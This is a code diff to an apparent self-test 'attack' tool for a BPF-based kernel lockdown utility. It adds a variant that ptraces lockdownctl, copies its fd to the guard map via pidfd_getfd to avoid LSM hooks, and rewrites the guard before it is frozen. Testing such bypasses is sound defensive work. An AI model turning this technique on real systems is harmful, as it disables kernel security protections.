@@ -32,7 +32,7 @@
  *                                    (after every load-time check, before
  *                                    it has an ID) until FILE exists, then
  *                                    attaches it
- *        attack --set-traced guard|state LEVEL
+ *        attack --set-traced guard|steal|state LEVEL
  *                                    runs lockdownctl set LEVEL under
  *                                    ptrace, takes fds to our maps before
  *                                    the guard is armed, then uses them
@@ -985,6 +985,34 @@ static int map_named(const char *name)
 	return -1;
 }
 
+/* With lockdownctl (@pid) stopped at bpf(BPF_MAP_FREEZE, @attr): its
+ * own fd to the map being frozen, taken with pidfd_getfd() (no new bpf
+ * fd, so no bpf_map hook), when that map is the guard, armed; else -1. */
+static int steal_guard(pid_t pid, int *pidfd, unsigned long attr)
+{
+	struct bpf_map_info info = { 0 };
+	struct lockdown_guard g;
+	__u32 len = sizeof(info), zero = 0;
+	long word;
+	int fd;
+
+	errno = 0;
+	word = ptrace(PTRACE_PEEKDATA, pid, (void *)attr, NULL);
+	if (errno)
+		return -1;
+	if (*pidfd < 0)
+		*pidfd = syscall(SYS_pidfd_open, pid, 0);
+	fd = syscall(SYS_pidfd_getfd, *pidfd, (int)(__u32)word, 0);
+	if (fd < 0)
+		return -1;
+	if (!bpf_map_get_info_by_fd(fd, &info, &len) &&
+	    !strcmp(info.name, "guard") &&
+	    !bpf_map_lookup_elem(fd, &zero, &g) && g.raise_prog)
+		return fd;
+	close(fd);
+	return -1;
+}
+
 /* Root's own syscall program: state[0].enforced and both policy slots'
  * levels set to none, through @state (an fd to our state map). */
 static int load_state_writer(int state)
@@ -1036,7 +1064,9 @@ static int load_state_writer(int state)
  *   and state maps by ID, nothing armed yet;
  * - the one after the guard is armed (the guard's own freeze, after the
  *   second scan): @variant "guard" rewrites the guard through its fd with
- *   every hook_btf_ids cleared, just before it is frozen.
+ *   every hook_btf_ids cleared, just before it is frozen. "steal" does the
+ *   same with lockdownctl's own fd, taken there with pidfd_getfd(): no fd
+ *   is created through bpf(2), and nothing before the arming is used.
  * Once set has exited ("SET exit N" printed):
  * - "guard": an LSM program of root's on bpf_lsm_locked_down answering
  *   1 << 32 (which ends the chain before ours) is loaded and attached,
@@ -1049,13 +1079,16 @@ static int load_state_writer(int state)
  */
 static int set_traced(const char *variant, const char *level)
 {
-	int guard_variant = !strcmp(variant, "guard"), guard = -1, state = -1;
+	int steal = !strcmp(variant, "steal"), pidfd = -1;
+	int guard_variant = steal || !strcmp(variant, "guard"), guard = -1,
+	    state = -1;
 	int freezes = 0, rewritten = 0, status, prog, link = -1, mem, err;
 	char detail[192];
 	pid_t pid;
 
 	if (!guard_variant && strcmp(variant, "state")) {
-		fprintf(stderr, "attack: --set-traced guard|state LEVEL\n");
+		fprintf(stderr,
+			"attack: --set-traced guard|steal|state LEVEL\n");
 		return 2;
 	}
 	name_task("rt_set_traced");
@@ -1091,9 +1124,12 @@ static int set_traced(const char *variant, const char *level)
 				__u32 zero = 0;
 
 				freezes++;
-				if (guard < 0)
+				if (steal && guard < 0)
+					guard = steal_guard(pid, &pidfd,
+							    regs.rsi);
+				if (!steal && guard < 0)
 					guard = map_named("guard");
-				if (state < 0)
+				if (!steal && state < 0)
 					state = map_named("state");
 				if (guard_variant && guard >= 0 && !rewritten &&
 				    !bpf_map_lookup_elem(guard, &zero, &g) &&
